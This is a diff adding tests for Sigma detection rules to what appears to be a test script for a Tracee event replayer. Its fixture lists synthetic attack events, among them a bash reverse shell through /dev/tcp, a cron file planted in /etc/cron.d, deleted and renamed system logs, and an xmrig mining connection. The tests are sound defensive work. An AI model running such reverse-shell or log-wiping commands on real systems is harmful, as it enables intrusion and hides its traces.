@@ -132,4 +132,36 @@ run "$REPLAY" -F --signatures-dir "$tmp/p-dup" "$tmp/shadow"
 expect_rc 1 "a plugin reusing a built-in id"
 has err "signature TRR-1001 (x) is defined twice" "a reused id is refused"
 
+# Sigma rules: each category fires on its event, and the summary counts
+# what was loaded and refused, by reason
+cat >"$tmp/sigma.txt" <<'X'
+proc: pid=100 ppid=1 comm=bash exe=/usr/bin/bash cwd=/root
+sched_process_exec: cmdpath=/usr/bin/bash pathname=/usr/bin/bash argv=bash|-c|bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 @comm=bash
+openat: dirfd=-100 pathname=/etc/cron.d/evil flags=0101 @ret=3 @comm=bash
+unlinkat: dirfd=-100 pathname=/var/log/auth.log flags=0 @comm=rm
+renameat2: olddirfd=-100 oldpath=/var/log/syslog newdirfd=-100 newpath=/tmp/syslog flags=0 @comm=mv
+connect: sockfd=3 addr=inet:127.0.0.1:3333 @comm=xmrig
+X
+"$GEN" "$tmp/sigma" <"$tmp/sigma.txt" || bad "gen_events sigma"
+run "$REPLAY" -F --signatures all,-TRR-1002,-TRR-1003,-TRR-1007,-TRC-1027 --sigma fixtures/sigma "$tmp/sigma"
+expect_rc 0 "--sigma DIR"
+has err "tracee-replay: sigma: loaded 16 rules, refused 0" "--sigma summary"
+for t in "Bash Reverse Shell Through /dev/tcp" "Cron File Created Or Modified" "Log File Deleted Under /var/log" \
+	 "Log File Renamed Away From /var/log" "Connection To A Stratum Mining Port"; do
+	[ "$(jq -r --arg t "$t" 'select(.eventName == $t) | .metadata.Properties.signatureID' "$tmp/out" | wc -l)" = 1 ] \
+		&& ok "sigma: $t fires once" || bad "sigma: $t: $(jq -r .eventName "$tmp/out" | sort | uniq -c | tr '\n' ';')"
+done
+same "$(jq -r 'select(.eventName == "Bash Reverse Shell Through /dev/tcp") | "\(.metadata.Properties.Severity) \(.metadata.Properties.level) \(.metadata.Properties.external_id) \(.metadata.Properties.Category)"' "$tmp/out")" \
+	"3 high T1059.004 execution" "a Sigma finding carries level, severity and MITRE"
+run "$REPLAY" -F --signatures 7c1a5e0f-2b7e-4c77-9a50-1f4e2e0c6a01 --sigma fixtures/sigma "$tmp/sigma"
+lines out 1 "--signatures selects a Sigma rule by id"
+run "$REPLAY" -F --sigma fixtures/sigma --sigma fixtures/sigma-refused "$tmp/sigma"
+expect_rc 0 "--sigma with rules it refuses"
+has err "sigma: loaded 16 rules, refused 7 (1 unsupported condition; 2 unsupported logsource; 1 invalid YAML" "refusals summarised by reason"
+has err "warning: fixtures/sigma-refused/keywords.yml: sigma rule refused: unsupported detection: keyword (full-text) search" \
+	"each refused rule is named with its reason"
+run "$REPLAY" -F --sigma "$tmp/no-rules" "$tmp/sigma"
+expect_rc 1 "--sigma on a missing path"
+has err "tracee-replay: error: --sigma: $tmp/no-rules: cannot open: No such file or directory" "a missing rule path is named"
+
 exit $fail
